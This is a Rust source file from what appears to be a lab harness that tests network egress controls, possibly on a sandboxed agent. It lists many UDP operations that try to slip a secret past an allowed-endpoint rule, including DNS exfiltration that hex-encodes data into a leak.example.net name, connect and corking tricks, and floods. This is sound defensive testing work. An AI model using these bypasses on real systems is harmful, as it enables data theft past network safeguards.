//! UDP and its relatives.

use std::{
    net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr},
    os::fd::{AsFd as _, OwnedFd},
};

use super::{Args, Failure, Families, Operation, Outcome, Step as _, Trace, tcp};
use crate::{
    lab::resolver::{A, query},
    sys::{self, Message},
};

/// What this file offers.
pub const OPERATIONS: &[Operation] = &[
    Operation::new("udp-sendto", Trace::Marker, "sendto() on an unconnected socket", sendto),
    Operation::new("udp-connected", Trace::Marker, "connect() and send()", connected),
    Operation::new("dns-query", Trace::Packet, "a DNS query for an ordinary name", |args| {
        ask(args, "api.example.com")
    }),
    Operation::new("dns-leak", Trace::Packet, "a DNS query with data in the name", |args| {
        let data: String = args.secret().iter().take(31).map(|byte| format!("{byte:02x}")).collect();
        ask(args, &format!("{data}.leak.example.net"))
    }),
    Operation::new("udp-port-zero", Trace::Marker, "connect() to port 0, which sends, and send()", |args| {
        let fd = socket(args.to)?;
        sys::connect(&fd, SocketAddr::from((args.to.ip(), 0))).step("connect")?;
        sys::send(&fd, args.secret(), 0).step("send")
    }),
    Operation::new(
        "udp-v4-mapped",
        Trace::Marker,
        "sendto() on an IPv6 socket to the IPv4-mapped address",
        mapped,
    ),
    Operation::new("udp-connected-v4-mapped", Trace::Marker, "the same, connected", connected_mapped),
    Operation::new("udp-sendto-connected", Trace::Marker, "sendto() past the connected peer", past_peer),
    Operation::new("udp-sendmsg", Trace::Marker, "sendmsg()", sendmsg),
    Operation::new(
        "udp-sendmmsg",
        Trace::Marker,
        "a batch, the first datagram of which is allowed",
        sendmmsg,
    ),
    Operation::new(
        "udp-reconnect",
        Trace::Marker,
        "connect to the allowed endpoint, then elsewhere",
        reconnect,
    ),
    Operation::new("udp-unspec-reconnect", Trace::Marker, "the same, dissolved by AF_UNSPEC between", unspec),
    // What is corked for one peer goes to the next one: connect() overwrites its destination. IPv6 does not.
    Operation::new(
        "udp-cork-reconnect",
        Trace::Marker,
        "cork a datagram, connect elsewhere, release it",
        cork,
    )
    .only(Families::V4)
    .to_allowed(),
    // The first call's destination counts: this one reaches the allowed endpoint.
    Operation::new(
        "udp-more-sendto",
        Trace::Nothing,
        "MSG_MORE to the allowed endpoint, then to another",
        more,
    )
    .to_allowed(),
    Operation::new("udp-gso", Trace::Marker, "UDP_SEGMENT: one call, many datagrams", segment),
    Operation::new("udp-large", Trace::Marker, "a datagram that the kernel fragments", large),
    Operation::new("udp-zerocopy", Trace::Marker, "send() with MSG_ZEROCOPY", zero_copy),
    Operation::new("udp-splice", Trace::Marker, "splice() from a pipe", splice),
    Operation::new("udp-reuseport", Trace::Marker, "from a port shared by two sockets", reuse_port),
    Operation::new("udp-broadcast", Trace::Elsewhere, "to the broadcast address", broadcast)
        .only(Families::V4),
    Operation::new("udp-multicast", Trace::Elsewhere, "to a group of all hosts", multicast),
    Operation::new("udp-flood", Trace::Marker, "sendto() three thousand times", flood),
    Operation::new("udp-scatter", Trace::Marker, "sendto() to two thousand ports", scatter),
    Operation::new("udp-encapsulation", Trace::Marker, "UDP_ENCAP: a tunnel's socket", encapsulation),
    Operation::new("udplite-send", Trace::Marker, "a UDP-Lite socket", udplite),
];

const IPPROTO_UDPLITE: i32 = 136;
/// The value of `UDP_ENCAP` for ESP in UDP (include/uapi/linux/udp.h).
const UDP_ENCAP_ESPINUDP: i32 = 2;

/// A UDP socket of the target's family.
pub(super) fn socket(to: SocketAddr) -> Result<OwnedFd, Failure> {
    sys::socket(sys::family(to), libc::SOCK_DGRAM, libc::IPPROTO_UDP).step("socket")
}

/// A query for a name.
fn ask(args: &Args, name: &str) -> Outcome {
    let fd = socket(args.to)?;
    sys::send_to(&fd, &query(1, name, A), 0, args.to).step("sendto")
}

/// The plain way.
pub(super) fn sendto(args: &Args) -> Outcome {
    sys::send_to(&socket(args.to)?, args.secret(), 0, args.to).step("sendto")
}

fn connected(args: &Args) -> Outcome {
    let fd = socket(args.to)?;
    sys::connect(&fd, args.to).step("connect")?;
    sys::send(&fd, args.secret(), 0).step("send")
}

fn mapped(args: &Args) -> Outcome {
    let to = sys::mapped(args.to);
    sys::send_to(&socket(to)?, args.secret(), 0, to).step("sendto")
}

fn connected_mapped(args: &Args) -> Outcome {
    connected(&Args { to: sys::mapped(args.to), ..args.clone() })
}

fn past_peer(args: &Args) -> Outcome {
    let fd = socket(args.via)?;
    sys::connect(&fd, args.via).step("connect")?;
    sys::send_to(&fd, args.secret(), 0, args.to).step("sendto")
}

fn sendmsg(args: &Args) -> Outcome {
    let message = Message::new(Some(args.to.into()), args.secret(), &[]);
    sys::send_message(&socket(args.to)?, &message, 0).step("sendmsg")
}

fn sendmmsg(args: &Args) -> Outcome {
    let fd = socket(args.to)?;
    let allowed = Message::new(Some(args.via.into()), b"hello", &[]);
    let secret = Message::new(Some(args.to.into()), args.secret(), &[]);
    let sent = sys::send_messages(&fd, &[allowed, secret]).step("sendmmsg")?;
    if sent == 2 {
        return Ok(args.secret().len());
    }
    // The call hides the error of a later message; asking again tells it.
    let secret = Message::new(Some(args.to.into()), args.secret(), &[]);
    sys::send_messages(&fd, &[secret]).step("sendmmsg")?;
    Ok(args.secret().len())
}

fn reconnect(args: &Args) -> Outcome {
    let fd = socket(args.via)?;
    sys::connect(&fd, args.via).step("connect")?;
    sys::send(&fd, b"hello", 0).step("send")?;
    sys::connect(&fd, args.to).step("reconnect")?;
    sys::send(&fd, args.secret(), 0).step("send")
}

fn unspec(args: &Args) -> Outcome {
    let fd = socket(args.via)?;
    sys::connect(&fd, args.via).step("connect")?;
    sys::send(&fd, b"hello", 0).step("send")?;
    sys::connect(&fd, sys::RawAddr::unspecified()).step("disconnect")?;
    sys::connect(&fd, args.to).step("reconnect")?;
    sys::send(&fd, args.secret(), 0).step("send")
}

fn cork(args: &Args) -> Outcome {
    let fd = socket(args.via)?;
    sys::connect(&fd, args.via).step("connect")?;
    let sent = sys::send(&fd, args.secret(), libc::MSG_MORE).step("cork")?;
    let moved = sys::connect(&fd, args.to).step("reconnect");
    // Whatever the connect said: releasing what is corked is the attack.
    let released = sys::send(&fd, b"", 0).step("release");
    moved.and(released).map(|_| sent)
}

fn more(args: &Args) -> Outcome {
    let fd = socket(args.to)?;
    sys::send_to(&fd, b"", libc::MSG_MORE, args.via).step("cork")?;
    sys::send_to(&fd, args.secret(), 0, args.to).step("sendto")
}

fn segment(args: &Args) -> Outcome {
    let fd = socket(args.to)?;
    let size = args.secret().len();
    let bytes = i32::try_from(size).unwrap_or(i32::MAX);
    sys::set_int(&fd, libc::IPPROTO_UDP, libc::UDP_SEGMENT, bytes).step("setsockopt")?;
    sys::send_to(&fd, &args.secret().repeat(3), 0, args.to).step("sendto")
}

fn large(args: &Args) -> Outcome {
    let data = args.secret().repeat(8000_usize.div_ceil(args.secret().len().max(1)));
    sys::send_to(&socket(args.to)?, &data, 0, args.to).step("sendto")
}

fn zero_copy(args: &Args) -> Outcome {
    let fd = socket(args.to)?;
    let allowed = sys::set_int(&fd, libc::SOL_SOCKET, libc::SO_ZEROCOPY, 1).step("setsockopt");
    let sent = sys::send_to(&fd, args.secret(), libc::MSG_ZEROCOPY, args.to).step("sendto")?;
    allowed.map(|()| sent)
}

fn splice(args: &Args) -> Outcome {
    let fd = socket(args.to)?;
    sys::connect(&fd, args.to).step("connect")?;
    tcp::splice_into(&fd, args)
}

fn reuse_port(args: &Args) -> Outcome {
    let (first, second) = (socket(args.to)?, socket(args.to)?);
    for fd in [&first, &second] {
        sys::set_int(&fd.as_fd(), libc::SOL_SOCKET, libc::SO_REUSEPORT, 1).step("setsockopt")?;
    }
    let any: IpAddr =
        if args.to.is_ipv4() { Ipv4Addr::UNSPECIFIED.into() } else { Ipv6Addr::UNSPECIFIED.into() };
    sys::bind(&first, SocketAddr::from((any, 0))).step("bind")?;
    sys::bind(&second, sys::local_addr(&first).step("getsockname")?).step("bind")?;
    sys::connect(&first, args.via).step("connect")?;
    sys::send(&first, b"hello", 0).step("send")?;
    sys::send_to(&second, args.secret(), 0, args.to).step("sendto")
}

fn broadcast(args: &Args) -> Outcome {
    let fd = socket(args.to)?;
    sys::set_int(&fd, libc::SOL_SOCKET, libc::SO_BROADCAST, 1).step("setsockopt")?;
    let everyone = SocketAddr::from((crate::lab::net::BROADCAST, args.to.port()));
    sys::send_to(&fd, args.secret(), 0, everyone).step("sendto")
}

fn multicast(args: &Args) -> Outcome {
    let group: SocketAddr = match args.to {
        SocketAddr::V4(_) => (Ipv4Addr::new(224, 0, 0, 251), args.to.port()).into(),
        SocketAddr::V6(_) => (Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 0xfb), args.to.port()).into(),
    };
    let fd = socket(args.to)?;
    if group.is_ipv6() {
        let interface = crate::lab::net::agent_interface().step("if_nametoindex")?;
        sys::set(&fd, libc::IPPROTO_IPV6, libc::IPV6_MULTICAST_IF, &interface.to_ne_bytes())
            .step("setsockopt")?;
    }
    sys::send_to(&fd, args.secret(), 0, group).step("sendto")
}

/// The last refusal, or all bytes.
fn flood(args: &Args) -> Outcome {
    let fd = socket(args.to)?;
    let mut outcome = Ok(0);
    for _ in 0..3000 {
        let sent = sys::send_to(&fd, args.secret(), 0, args.to).step("sendto");
        outcome = outcome.and_then(|total| sent.map(|sent| total + sent));
    }
    outcome
}

/// The last refusal, or all bytes.
fn scatter(args: &Args) -> Outcome {
    let mut outcome = Ok(0);
    for port in 20_000..22_000 {
        let to = SocketAddr::from((args.to.ip(), port));
        let sent = sys::send_to(&socket(to)?, args.secret(), 0, to).step("sendto");
        outcome = outcome.and_then(|total| sent.map(|sent| total + sent));
    }
    outcome
}

fn encapsulation(args: &Args) -> Outcome {
    let fd = socket(args.to)?;
    let allowed =
        sys::set_int(&fd, libc::IPPROTO_UDP, libc::UDP_ENCAP, UDP_ENCAP_ESPINUDP).step("setsockopt");
    let sent = sys::send_to(&fd, args.secret(), 0, args.to).step("sendto")?;
    allowed.map(|()| sent)
}

fn udplite(args: &Args) -> Outcome {
    let fd = sys::socket(sys::family(args.to), libc::SOCK_DGRAM, IPPROTO_UDPLITE).step("socket")?;
    sys::send_to(&fd, args.secret(), 0, args.to).step("sendto")
}
